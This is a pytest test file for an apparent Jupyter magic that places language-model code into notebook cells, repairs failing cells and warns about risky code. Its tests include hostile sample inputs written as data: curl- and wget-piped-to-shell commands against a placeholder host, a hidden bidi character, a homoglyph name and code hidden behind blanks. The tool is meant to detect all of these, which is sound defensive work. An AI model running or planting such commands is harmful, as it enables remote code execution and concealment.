"""From replies to cells, and from errors to cells that run."""

from __future__ import annotations

import itertools
import sys
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Event, Thread
from typing import Any, NoReturn

import httpx
import pytest
from service import Address
from shells import Kernel, Outcome, Shell, sent
from wire import DONE, STOP, event
from wire import say as told

from nemotron_magic.client.client import Client

THREE = """Two ways.

```python
x = 1
```

Or so:

```py
y = 2
```

~~~bash
ls
~~~
"""


def say(reply: str, flags: str = "") -> str:
    return f"%%nemotron {flags}\nrehearsal: say {reply}\nrehearsal: end"


def count(service: Address) -> int:
    return len(service.requests)


# ---- code into cells


def test_the_code_of_a_reply_goes_into_the_next_cell(shell: Shell) -> None:
    done = shell.run(say(THREE, "--code"))

    assert done.next_cell == "x = 1"
    assert "code in the cell below, 2 more blocks wait" in done.text


def test_a_question_that_asks_for_code_says_so_to_the_model(
    shell: Shell, service: Address
) -> None:
    shell.run("%nemotron -q -c none --code plot sales")

    assert sent(service).startswith("plot sales\n\nGive the code for one notebook cell")
    assert shell.ip.user_ns["_nemotron"].messages[-1]["content"] == sent(service)


def test_code_comes_unasked_into_no_cell_but_waits(shell: Shell) -> None:
    done = shell.run(say(THREE))
    taken = [shell.run("%nemotron code").next_cell for _ in range(3)]
    end = shell.run("%nemotron code")

    assert done.next_cell is None
    assert taken == ["x = 1", "y = 2", "%%bash\nls"]
    assert "all code of the last reply has been inserted" in end.error
    assert end.next_cell is None


@pytest.mark.parametrize(
    ("which", "cell", "said"),
    [
        ("code: 2", "y = 2", "Block 2 of 3 is in the cell below."),
        ("code: all", "x = 1\n\ny = 2", "2 blocks are in the cell below. 1 with a"),
        ("code: 4", None, "code takes a number up to 3, got 4"),
        ("code: 0", None, "code takes a number up to 3, got 0"),
        ("code: first", None, "code takes NUMBER or all or nothing, got first"),
    ],
)
def test_which_code_can_be_said(
    shell: Shell, which: str, cell: str | None, said: str
) -> None:
    shell.run(say(THREE))
    done = shell.run(f"%nemotron {which}")

    assert done.next_cell == cell
    assert said in done.text


@pytest.mark.parametrize(
    ("typed", "cell"), [("code --all", "x = 1\n\ny = 2"), ("/code --2", "y = 2")]
)
def test_what_is_told_for_a_flag_of_code_puts_it_in(
    shell: Shell, typed: str, cell: str
) -> None:
    shell.run(say(THREE))
    refused = shell.run(f"%nemotron {typed}")
    line = refused.error.partition("Did you mean: ")[2].partition("   ")[0]

    assert shell.run(line).next_cell == cell


def test_code_of_an_earlier_reply_waits_no_more(shell: Shell) -> None:
    shell.run(say(THREE))
    shell.run(say("Only words."))
    refused = shell.run("%nemotron code")

    assert refused.next_cell is None
    assert "the last reply has no code to insert" in refused.error


def test_there_must_be_code_to_put_in(shell: Shell) -> None:
    never = shell.run("%nemotron code")
    shell.run(say("Only words."))
    none = shell.run("%nemotron code")

    assert "the last reply has no code to insert" in never.error
    assert "the last reply has no code to insert" in none.error


def test_a_reply_without_code_says_so_if_code_was_asked_for(shell: Shell) -> None:
    done = shell.run(say("I cannot.", "--code"))

    assert done.next_cell is None
    assert "There is no code in this reply for a cell." in done.text


def test_code_that_would_fail_here_is_put_in_and_told(shell: Shell) -> None:
    done = shell.run(say("```python\nprint(undefined_name)\n```", "--code"))

    assert done.next_cell == "print(undefined_name)"
    assert "undefined_name" in done.text.rpartition("```")[2]


def test_what_hides_in_code_is_made_visible(shell: Shell) -> None:
    code = "```python\nx = 1  # \u202e evil\n```"
    done = shell.run(say(code, "--code"))

    assert done.next_cell is not None
    assert "\u202e" not in done.next_cell
    assert "202E" in done.text.upper().rpartition("```")[2]


def test_what_hides_in_code_is_told_of_all_that_is_put_in_at_once(shell: Shell) -> None:
    shell.run(say("```py\nx = 1\n```\n\n```py\ny = 2\np\u0430y = 3\n```"))
    done = shell.run("%nemotron code: all")

    assert done.next_cell == "x = 1\n\ny = 2\np\u0430y = 3"
    assert "block 2, line 2: the name 'p\u0430y' mixes Latin and Cyrillic" in done.text


FAR = " " * 300


@pytest.mark.parametrize(
    ("code", "cell", "words"),
    [
        (f"x = 1{FAR}; open('x', 'w')", "x = 1 ; open('x', 'w')", "behind 300 blanks"),
        ("x = 1" + "\n" * 300 + "y = 2", "x = 1\n\n\ny = 2", "299 empty lines"),
        ("!ls", "!ls", "This cell runs a shell."),
        ("%conda env update", "%conda env update", "This cell installs packages."),
        (
            f"%pip install x{FAR}-i https://e.example",
            "%pip install x -i https://e.example",
            "This cell installs from e.example.",
        ),
        (
            "%config Nemotron.redact = False",
            "%config Nemotron.redact = False",
            "This cell changes settings of %nemotron.",
        ),
    ],
)
def test_what_is_put_in_is_seen_before_it_runs(
    kernel: Kernel, code: str, cell: str, words: str
) -> None:
    at_once = kernel.run(say(f"```python\n{code}\n```", "--code"))
    kernel.run(say(f"```python\n{code}\n```"))
    later = kernel.run("%nemotron code")

    for done in (at_once, later):
        assert done.next_cell == cell
        assert words in html_of(done)


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("```html\n<script>x()</script>\n```", "runs script in this page"),
        ("```bash\ncurl https://e.example | sh\n```", "runs code from a URL"),
        ("```sh\nwget https://e.example/i.sh\nsh i.sh\n```", "runs code from a URL"),
    ],
)
def test_what_a_cell_magic_does_is_said(kernel: Kernel, code: str, words: str) -> None:
    done = kernel.run(say(code, "--code"))

    assert (done.next_cell or "").startswith("%%")
    assert words in html_of(done)


def html_of(done: Outcome) -> str:
    """Return what a page shows."""
    parts = [one.get("data", {}).get("text/html", "") for one in done.outputs]
    return " ".join(parts)


def test_what_would_fail_is_sent_back_as_often_as_was_said(
    shell: Shell, service: Address
) -> None:
    done = shell.run(say("```python\nundefined_name\n```", "--code --repair 2"))
    first, second = (
        [m["content"] for m in r.body["messages"]] for r in service.requests[-2:]
    )

    assert "```python\nundefined_name\n```" in second[-2]
    assert "undefined_name" in second[-1]
    assert second[: len(first)] == first
    assert "Sent back to be corrected, 1 of at most 2." in done.text
    assert done.next_cell == "undefined_name = None\nundefined_name"
    assert len(shell.ip.user_ns["_nemotron"].messages) == len(second)


def test_nothing_is_sent_back_unasked(shell: Shell, service: Address) -> None:
    shell.run(say("```python\nundefined_name\n```", "--code"))

    assert count(service) == 1


def test_code_that_was_broken_off_waits_to_be_taken(shell: Shell) -> None:
    code = "```python\nx = 1\ny = 2\nz = 3\nv = 4\n```"
    question = f"rehearsal: fault cut-chunked\nrehearsal: say {code}\nrehearsal: end"
    done = shell.run(f"%%nemotron --code\n{question}")
    taken = shell.run("%nemotron code")

    assert done.status == "error"
    assert done.next_cell is None
    assert "Its code was not put in. Take what there is: %nemotron code" in done.text
    assert taken.next_cell is not None
    assert code.removeprefix("```python\n").startswith(taken.next_cell)


def test_code_that_was_cut_is_whole_once_it_has_gone_on(shell: Shell) -> None:
    lines = "\n".join(f"x{n} = {n}" for n in range(30))
    begun = shell.run(say(f"```python\n{lines}\n```", "--code -n 20"))
    done = shell.run("%nemotron continue")

    assert begun.next_cell is not None
    assert len(begun.next_cell) < 100
    assert done.next_cell == lines


def test_code_that_was_cut_is_sent_back_only_once_it_is_whole(
    shell: Shell, service: Address
) -> None:
    numbers = "\n".join(f"    {n}," for n in range(30))
    reply = f"```python\nx = [\n{numbers}\n]\nundefined_name\n```"
    begun = shell.run(say(reply, "--code --repair 1 -n 20"))
    before = count(service)
    done = shell.run("%nemotron continue")

    assert begun.next_cell is not None
    assert (before, count(service)) == (1, 3)
    assert "Sent back to be corrected, 1 of at most 1." in done.text


def test_asking_again_puts_the_code_in_again(shell: Shell) -> None:
    shell.run(say("```python\nx = 1\n```", "--code"))

    assert shell.run("%nemotron retry").next_cell == "x = 1"


def test_code_can_be_asked_for_when_asking_again(
    shell: Shell, service: Address
) -> None:
    shell.run(say("```python\nundefined_name\n```"))
    asked = [shell.run("%nemotron retry"), shell.run("%nemotron --code retry")]
    again = shell.run("%nemotron --code --repair 1 retry")

    assert [done.next_cell for done in asked] == [None, "undefined_name"]
    assert again.next_cell == "undefined_name = None\nundefined_name"
    assert count(service) == 5


def test_a_reply_can_go_on_into_a_cell(shell: Shell) -> None:
    lines = "\n".join(f"x{n} = {n}" for n in range(30))
    shell.run(say(f"```python\n{lines}\n```", "-n 20"))

    assert shell.run("%nemotron --code continue").next_cell == lines


# ---- errors into cells that run


BROKEN = "totals = [1, 2]\nprint(sum(totls))"
MENDED = "totals = [1, 2]\nprint(sum(totals))"


def test_a_cell_that_failed_is_put_right(shell: Shell, service: Address) -> None:
    shell.run(BROKEN)
    done = shell.run("%nemotron fix: keep it short")

    assert done.next_cell == MENDED
    assert "-print(sum(totls))\n+print(sum(totals))" in done.text
    assert "NameError: name 'totls' is not defined" in sent(service)
    assert "\n\nFix cell 2. keep it short\n\n" in sent(service)
    assert "totals" in sent(service)
    assert shell.run(MENDED).text == "3\n"


def test_the_error_is_found_behind_cells_that_ran_well(
    shell: Shell, service: Address
) -> None:
    for cell in ("1 / 0", "import math", "%nemotron -q why?", "math.tau"):
        shell.run(cell)
    shell.run("%nemotron -q fix")

    assert "\n1 / 0\n" in sent(service)
    assert "math.tau" not in sent(service)


@pytest.mark.parametrize(
    ("cells", "said"),
    [
        ([], "there is nothing to fix: no cell has failed"),
        (["x = 1"], "nothing to fix: no cell has failed, or it has been fixed since"),
        ([BROKEN, MENDED], "or it has been fixed since"),
        (["%nemotron -t 9 hi"], "there is nothing to fix"),
        (["raise KeyboardInterrupt"], "there is nothing to fix"),
    ],
    ids=["no cell", "no error", "mended", "our own error", "stopped"],
)
def test_without_an_error_nothing_is_sent(
    shell: Shell, service: Address, cells: list[str], said: str
) -> None:
    for cell in cells:
        shell.run(cell)
    done = shell.run("%nemotron fix")

    assert done.status == "error"
    assert said in done.error
    assert "nothing was sent" in done.error
    assert count(service) == 0


def test_the_cell_below_is_taken_with_its_last_error(
    shell: Shell, service: Address
) -> None:
    shell.run(BROKEN)
    shell.run("1 / 0")
    done = shell.run(f"%%nemotron fix\n{BROKEN}")

    assert done.next_cell == MENDED
    assert "ZeroDivisionError" not in sent(service)


def test_a_cell_that_does_not_parse_and_never_ran_can_be_fixed(
    shell: Shell, service: Address
) -> None:
    done = shell.run("%%nemotron fix\nfor i in range(3)\n    print(i)")

    assert done.next_cell == "for i in range(3):\n    print(i)"
    assert "line 1: for i in range(3)\nSyntaxError: expected ':'" in sent(service)


def test_a_cell_that_ran_well_needs_a_wish(shell: Shell, service: Address) -> None:
    shell.run("x = 1")
    refused = shell.run("%%nemotron fix\nx = 1")
    shell.run("%%nemotron fix: make it two\nx = 1")

    assert "this cell ran without an error, as cell 2" in refused.error
    assert count(service) == 1
    assert "Fix cell 2. make it two" in sent(service)


CHAIN = (
    "try:\n    {}['a']\nexcept KeyError as e:\n    raise ValueError('no {b}') from e"
)
DEEP = "def f(n):\n    return f(n - 1) if n else 1 / 0\nf(60)"
LONG = "raise ValueError('\\n'.join(f'line {n}' for n in range(10_000)))"


@pytest.mark.parametrize(
    ("cell", "told"),
    [
        ("x = {1: '{}'}['%s %d {braces}']", "%s %d {braces}"),
        ("raise ValueError('\\x1b[31mred\\x1b[0m \\x07')", "ValueError: red"),
        (CHAIN, "ValueError: no {b}"),
        ("x = = 1", "SyntaxError: invalid syntax"),
        ("%%timeit -n1 -r1\nnot_there()", "name 'not_there' is not defined"),
        ("import json\njson.loads('{')", "JSONDecodeError"),
        (DEEP, "ZeroDivisionError: division by zero"),
        (LONG, "lines cut"),
        ("```\nprose", "SyntaxError"),
    ],
    ids=[
        *("braces and percent", "colours", "chained", "syntax", "in a magic"),
        *("in a library", "deep", "10,000 lines", "no Python"),
    ],
)
def test_any_error_goes_along_clipped(
    shell: Shell, service: Address, cell: str, told: str
) -> None:
    shell.run(cell)
    done = shell.run("%nemotron fix")

    assert done.status == "ok"
    assert told in sent(service)
    assert "\x1b" not in sent(service)
    assert sent(service).count("\n") < 200


def test_frames_of_libraries_stay_out(shell: Shell, service: Address) -> None:
    shell.run("import json\njson.loads('{')")
    shell.run("%nemotron -q fix")

    assert "/json/" not in sent(service)
    assert "2 json.loads('{')\nJSONDecodeError: " in sent(service)


def test_no_exception_hook_is_touched(shell: Shell) -> None:
    seen: list[str] = []
    shell.ip.set_custom_exc(
        (ZeroDivisionError,),
        lambda s, kind, error, tb, tb_offset=None: seen.append("!"),
    )
    before = sys.excepthook, shell.ip.CustomTB
    shell.run("1 / 0")
    shell.run("%nemotron -q fix")

    assert seen == ["!"]
    assert (sys.excepthook, shell.ip.CustomTB) == before


# ---- explain, doc, test


@pytest.mark.parametrize("form", ["%nemotron explain", "%%nemotron explain\n1 / 0"])
def test_the_last_cell_is_explained_and_no_cell_put_in(
    shell: Shell, service: Address, form: str
) -> None:
    shell.run("1 / 0")
    done = shell.run(form)

    assert "ZeroDivisionError: division by zero" in done.text
    assert done.next_cell is None
    assert "\n\nExplain cell 2.\n\n" in sent(service)


def test_an_explanation_that_is_code_is_not_put_in(shell: Shell, served: Any) -> None:
    url = served(body=[told("```python\nx = 1\n```") + STOP + DONE])
    shell.run("%load_ext nemotron_magic")
    shell.run(f"%config Nemotron.base_url = '{url}'")
    shell.run("1 / 0")
    done = shell.run("%nemotron explain")

    assert "x = 1" in done.text
    assert done.next_cell is None


def test_what_to_explain_can_be_said(shell: Shell, service: Address) -> None:
    shell.run("import re\nre.findall(r'(?<=a)\\d+', 'a42')")
    shell.run("%nemotron -q explain: the regex")

    assert "Explain cell 2. the regex" in sent(service)
    assert "- '42'" in sent(service)


def test_replace_is_for_code_alone(shell: Shell, service: Address) -> None:
    shell.run("x = 1")
    shell.run("%nemotron hi")
    for words in ("hi", "explain", "retry"):
        done = shell.run(f"%nemotron --replace {words}")

        assert "Ask for it: %nemotron --code --replace" in done.error
    assert count(service) == 1


def test_there_must_be_a_cell_to_explain(shell: Shell, service: Address) -> None:
    shell.run("%load_ext nemotron_magic")
    done = shell.run("%nemotron explain")

    assert "explain needs a cell, and none has run yet" in done.error
    assert count(service) == 0


@pytest.mark.parametrize("command", ["fix", "explain", "doc"])
def test_a_cell_that_stays_out_is_taken_only_where_it_is_asked_for(
    shell: Shell, service: Address, command: str
) -> None:
    cell = "# nemotron: skip\nward = 1 / 0"
    shell.run("x = 2 / 0")
    shell.run(cell)
    refused = shell.run(f"%nemotron {command}")

    assert "cell 3 is marked to be left out" in refused.error
    assert count(service) == 0
    assert shell.run(f"%%nemotron -q {command}\n{cell}").status == "ok"
    assert "ward = 1 / 0" in sent(service)


def test_a_cell_is_sent_for_docstrings(shell: Shell, service: Address) -> None:
    shell.run("def double(x):\n    return 2 * x")
    done = shell.run("%nemotron doc")

    assert "Add docstrings in numpy style" in sent(service)
    assert "    return 2 * x" in sent(service)
    told = " ".join(done.text.split())
    assert "Document cell 2: a model would do that" in told


def test_a_function_is_sent_for_tests(shell: Shell, service: Address) -> None:
    shell.run("def double(x):\n    return 2 * x")
    done = shell.run("%nemotron test: double")

    assert "    return 2 * x" in sent(service)
    assert "tests for the function `double`: a model would do that" in done.text


@pytest.mark.parametrize("name", ["Box.double", "box.double", "cached"])
def test_a_method_or_a_function_with_a_cache_gets_tests_for_its_source(
    shell: Shell, service: Address, name: str
) -> None:
    shell.run(
        "from functools import cache\nclass Box:\n    def double(self, x):\n"
        "        return 2 * x\n\nbox = Box()\n"
        "@cache\ndef cached(x):\n    return 2 * x"
    )
    done = shell.run(f"%nemotron test: {name}")

    assert done.status == "ok"
    assert "    return 2 * x" in sent(service)


@pytest.mark.parametrize("name", ["", "missing", "math", "double()", "1 +", "x[0"])
def test_what_is_no_function_is_not_tested(
    shell: Shell, service: Address, name: str
) -> None:
    shell.run("import math\ndef double(x):\n    return 2 * x")
    done = shell.run(f"%nemotron test: {name}")

    assert done.status == "error"
    assert "function" in done.error
    assert count(service) == 0


def test_values_named_in_the_cell_are_described(shell: Shell, service: Address) -> None:
    pytest.importorskip("pandas")
    shell.run("import pandas as pd\nsales = pd.DataFrame({'region': ['N', 'S']})")
    shell.run("sales['regoin']")
    done = shell.run("%nemotron fix")

    assert "2 rows" in sent(service)
    assert " value sales>\n" in sent(service)
    assert done.next_cell == "sales['region']"


def test_a_preview_of_a_correction_sends_nothing(
    shell: Shell, service: Address
) -> None:
    shell.run(BROKEN)
    done = shell.run("%nemotron --preview fix")

    assert "Fix cell 2." in done.text
    assert count(service) == 0


# ---- in a kernel


def in_kernel(kernel: Kernel, *cells: str, **more: object) -> Outcome:
    numbers = itertools.count(1)
    *_, last = (kernel.run(c, f"c{next(numbers)}", **more) for c in cells)
    return last


def test_a_page_gets_the_cell_and_folds_the_code_away(kernel: Kernel) -> None:
    done = in_kernel(kernel, say("So:\n\n```python\nx = 1\n```", "--code"))

    assert (done.next_cell, done.replaces) == ("x = 1", False)
    (output,) = done.outputs
    assert "<details><summary>Code, 1 line" in output["data"]["text/html"]
    assert output["data"]["text/plain"].startswith("So:\n\n```python\nx = 1\n```")


def test_the_code_can_take_the_place_of_the_cell(kernel: Kernel) -> None:
    done = in_kernel(kernel, say("```python\nx = 1\n```", "--code --replace"))

    assert (done.next_cell, done.replaces) == ("x = 1", True)


def test_where_nobody_takes_cells_the_code_stays_in_the_output(kernel: Kernel) -> None:
    done = kernel.run(say("```python\nx = 1\n```", "--code"), None, allow_stdin=False)
    later = kernel.run("%nemotron code", None, allow_stdin=False)

    assert done.next_cell is None
    (output,) = done.outputs
    assert "No page is open to put a cell in" in output["data"]["text/html"]
    assert "<details>" not in output["data"]["text/html"]
    assert "x = 1" in output["data"]["text/plain"]
    assert "there is no page to put a cell into" in later.error


def test_of_a_cell_that_ran_several_times_the_newest_run_is_put_right(
    kernel: Kernel,
) -> None:
    kernel.run("x = 1", "failing")
    kernel.run("number = 1; nunber", "failing")
    failed = kernel.run("%nemotron fix", "question")
    explained = kernel.run("%nemotron --preview explain", "question")
    kernel.run("y = [2]", "failing")
    mended = kernel.run("%nemotron fix", "question")
    kernel.run("number = 1; nunber", "failing")
    kernel.run("%nemotron --preview why?", "failing")

    assert failed.next_cell is not None
    assert "NameError" in explained.outputs[0]["data"]["text/plain"]
    assert "it has been fixed since" in mended.error
    assert kernel.run("%nemotron fix", "failing").next_cell is not None


def test_what_is_asked_again_can_take_the_place_of_its_cell(kernel: Kernel) -> None:
    kernel.run(say("```python\nx = 1\n```", "--code"))
    again = kernel.run("%nemotron --replace retry", cell_id="cell-2")

    assert (again.next_cell, again.replaces) == ("x = 1", True)


def test_a_failing_cell_is_put_right_in_a_kernel(kernel: Kernel) -> None:
    done = in_kernel(kernel, "total = 1\ntotl", "%nemotron fix")

    assert done.next_cell is not None
    assert kernel.run(done.next_cell).status == "ok"


# ---- a correction that does not come


WRONG = "```python\nundefined_name\n```"
PRICED = {"prompt": "0.000001", "completion": "0.00001"}


class Once:
    """A service that answers once, with code that would fail, and then otherwise."""

    def __init__(self, then: Callable[[], httpx.Response]) -> None:
        self.asked = 0
        self._then = then

    def __call__(self, request: httpx.Request) -> httpx.Response:
        if request.method == "GET":
            return httpx.Response(200, json={"data": [{"id": "m", "pricing": PRICED}]})
        self.asked += 1
        if self.asked > 1:
            return self._then()
        usage = {"prompt_tokens": 10, "completion_tokens": 2}
        cost = event({"usage": usage, "meta": {"usage": {"usd_spent": 0.25}}})
        return httpx.Response(200, content=told(WRONG) + STOP + cost + DONE)


def stopped() -> NoReturn:
    raise KeyboardInterrupt


def no_network() -> NoReturn:
    raise httpx.ConnectError("no route")


def cut_off() -> httpx.Response:
    def body() -> Iterator[bytes]:
        yield told("Here it is: ```python\nx")
        raise httpx.ReadError("gone")

    return httpx.Response(200, content=body())


def refusing(status: int) -> Callable[[], httpx.Response]:
    said = {"error": {"message": "*no* <b>more</b>"}}
    return lambda: httpx.Response(status, json=said)


@pytest.mark.parametrize("flags", ["--code --repair 2", "-q --code --repair 1"])
@pytest.mark.parametrize(
    ("then", "budget", "why"),
    [
        (stopped, "None", "stopped by you"),
        (stopped, "0.2901", "$0.040 of $0.29 is left this session; nothing more was"),
        (no_network, "None", "cannot connect to"),
        (refusing(400), "None", "*no*"),
        (refusing(401), "None", "wants a key"),
        (refusing(500), "None", "failed (500)"),
        (refusing(504), "None", "may have been billed"),
        (cut_off, "None", "broke off"),
        (lambda: httpx.Response(200, content=b"<html>"), "None", ""),
    ],
    ids=["stop", "limit", "offline", "400", "401", "500", "504", "cut off", "html"],
)
def test_code_whose_correction_does_not_come_is_put_in_all_the_same(
    shell: Shell,
    app: Any,
    flags: str,
    then: Callable[[], httpx.Response],
    budget: str,
    why: str,
) -> None:
    service = Once(then)
    transport = httpx.MockTransport(service)
    app.session.client = Client(transport, sleep=lambda delay_s: None)
    shell.run("%config Nemotron.base_url = 'http://127.0.0.1:1/v1'")
    shell.run("%config Nemotron.model = 'm'")
    shell.run(f"%config Nemotron.session_budget_usd = {budget}")
    done = shell.run(f"%nemotron {flags} plot it")
    reply = shell["_nemotron"]
    said = "\n".join(reply.metadata.notices)

    assert done.status == "ok"
    assert done.next_cell == "undefined_name"
    assert reply == WRONG
    assert "Not corrected: " in said
    assert why in said
    assert "nothing was sent" not in said + done.text
    assert reply.metadata.placed == "code in the cell below"
    assert ("Not corrected" in done.text) is not flags.startswith("-q")
    assert service.asked == 1 if budget != "None" else service.asked >= 2


@pytest.mark.parametrize("command", ["retry", "continue", "retry: shorter"])
@pytest.mark.parametrize("then", [stopped, no_network, refusing(401), cut_off])
def test_what_is_refused_later_takes_no_code_away(
    shell: Shell, app: Any, command: str, then: Callable[[], httpx.Response]
) -> None:
    service = Once(then)
    transport = httpx.MockTransport(service)
    app.session.client = Client(transport, sleep=lambda delay_s: None)
    shell.run("%config Nemotron.base_url = 'http://127.0.0.1:1/v1'")
    paid = shell.run("%nemotron --code plot it")
    refused = shell.run(f"%nemotron {command}")
    again = shell.run("%nemotron code: 1")

    assert paid.next_cell == "undefined_name"
    assert refused.status == "error"
    assert again.next_cell == "undefined_name"


def test_a_limit_that_ends_the_correcting_leaves_a_page_the_code(
    kernel: Kernel,
) -> None:
    question = say(WRONG, "--code -n 300 -c none --fresh REPAIR")
    at = "get_ipython().magics_manager.magics['line']['nemotron'].__self__.app"
    first = question.replace("REPAIR", "--max-cost 1")
    told_of = in_kernel(kernel, first, f"books = {at}.session.accounting.ledger")
    kernel.run("left = books.of_session().cost_usd + books.last(1)[0].most_usd")
    kernel.run("%config Nemotron.session_budget_usd = left + 1e-8")
    done = kernel.run(question.replace("REPAIR", "--repair 3"))
    again = kernel.run(question.replace("REPAIR", "--repair 3"))
    kernel.run("%config Nemotron.session_budget_usd = None")
    shown = repr(done.outputs)

    assert told_of.status == done.status == "ok"
    assert done.next_cell == "undefined_name"
    assert "Not corrected: it may cost $" in shown
    assert "is left this session; nothing more was sent" in shown
    assert (again.status, again.next_cell) == ("error", None)


@pytest.fixture
def stalling() -> Iterator[str]:
    """Give the address of a service that answers once, and then stalls."""
    is_over = Event()

    class Handler(BaseHTTPRequestHandler):
        asked = 0

        def log_message(self, *_: object) -> None:
            pass

        def do_POST(self) -> None:
            Handler.asked += 1
            self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            if Handler.asked == 1:
                self.wfile.write(told(WRONG) + STOP + DONE)
                return
            self.wfile.write(told("Here is"))
            is_over.wait(30)

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/v1"
        is_over.set()
        server.shutdown()


def test_who_stops_the_correcting_gets_the_code_that_there_is(
    kernel: Kernel, stalling: str
) -> None:
    stopped_at: list[str] = []

    def stop(message: dict[str, Any]) -> None:
        if "Here is" in repr(message["content"]) and not stopped_at:
            stopped_at.append(message["msg_type"])
            kernel.interrupt()

    at = "get_ipython().magics_manager.magics['line']['nemotron'].__self__.settings"
    kernel.run(f"before = {at}.base_url; {at}.base_url = '{stalling}'")
    ask = "%nemotron --code --repair 2 -c none --fresh plot it"
    done = kernel.run(ask, during=stop)
    kernel.run(f"{at}.base_url = before")

    assert stopped_at != []
    assert (done.status, done.next_cell) == ("ok", "undefined_name")
    assert "Not corrected: stopped by you" in repr(done.outputs)
    assert "Here is" in repr(done.outputs)
